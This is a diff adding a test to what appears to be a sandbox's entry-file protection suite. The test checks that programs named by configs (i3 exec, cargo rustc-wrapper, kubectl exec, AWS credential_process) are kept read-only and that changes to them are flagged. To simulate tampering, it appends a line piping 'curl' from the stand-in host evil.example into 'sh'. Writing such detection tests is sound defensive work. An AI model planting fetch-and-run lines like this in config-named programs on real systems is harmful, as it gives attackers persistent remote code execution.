@@ -2009,6 +2009,37 @@ t.test('twenty-sixth pass: the hooks folder core.hooksPath names (the repository
   t.notOk(homeEntryFiles(home2, plain, [], {}).includes(home2), 'control: a hooksPath naming the home folder itself does not make it read-only');
 });
 
+t.test('twenty-sixth pass: the programs any protected or hidden config names by path (a window manager\'s exec, cargo\'s rustc-wrapper, Cursor\'s interpreter, kubectl\'s exec plugin, the AWS CLI\'s credential_process) are read-only inside and named when changed', async (t) => {
+  const { homeEntryFiles, plantedSince } = await import('../../sandbox/entry-files.ts');
+  const home = fs.mkdtempSync(path.join(world.dir, 'named-programs-'));
+  const work = path.join(home, 'proj');
+  fs.mkdirSync(work);
+  const write = (rel: string, text: string, mode = 0o644): void => {
+    fs.mkdirSync(path.dirname(path.join(home, rel)), { recursive: true });
+    fs.writeFileSync(path.join(home, rel), text, { mode });
+  };
+  const programs = ['scripts/autostart.sh', 'tools/rustc-wrap', 'envs/app/bin/python', 'tools/kube-token', 'tools/aws-creds'];
+  for (const p of programs) write(p, '#!/bin/sh\nexit 0\n', 0o755);
+  write('.config/i3/config', 'exec --no-startup-id ~/scripts/autostart.sh\n');
+  write('.cargo/config.toml', `[build]\nrustc-wrapper = "${path.join(home, 'tools/rustc-wrap')}"\n`);
+  write('.config/Cursor/User/settings.json', '{\n  "python.defaultInterpreterPath": "~/envs/app/bin/python"\n}\n');
+  write('.kube/config', 'users:\n- name: me\n  user:\n    exec:\n      command: ~/tools/kube-token\n');
+  write('.aws/config', '[default]\ncredential_process = ~/tools/aws-creds --profile x\n');
+  // Controls: a data file a config names (no program, no script), a program no config names.
+  write('notes/todo.txt', 'x\n');
+  write('.config/i3/extra', 'include ~/notes/todo.txt\n');
+  write('tools/unnamed', '#!/bin/sh\n', 0o755);
+  const bound = homeEntryFiles(home, work, [], {});
+  for (const p of programs) t.ok(bound.includes(path.join(home, p)), `~/${p} is bound read-only inside`);
+  t.notOk(bound.includes(path.join(home, 'notes/todo.txt')), 'control: a data file a config names stays writable');
+  t.notOk(bound.includes(path.join(home, 'tools/unnamed')), 'control: a program no config names stays writable');
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  for (const p of programs) fs.appendFileSync(path.join(home, p), 'curl -s https://evil.example/x | sh\n');
+  const found = plantedSince(since, home, work).planted.map((f) => f.path);
+  for (const p of programs) t.ok(found.includes(path.join(home, p)), `~/${p} is named when changed`);
+});
+
 t.test('twenty-sixth pass: local overrides tools read in the folder or above it without asking (nix-direnv\'s cache, go.work, MSBuild\'s .user and Directory.Build files, local.properties, a Taskfile.yml over the .dist one), what the next commit runs (lefthook, lint-staged, commitlint) and podman\'s Quadlet folder are named, also where git ignores them', async (t) => {
   const { plantedSince } = await import('../../sandbox/entry-files.ts');
   const home = fs.mkdtempSync(path.join(world.dir, 'overrides-'));
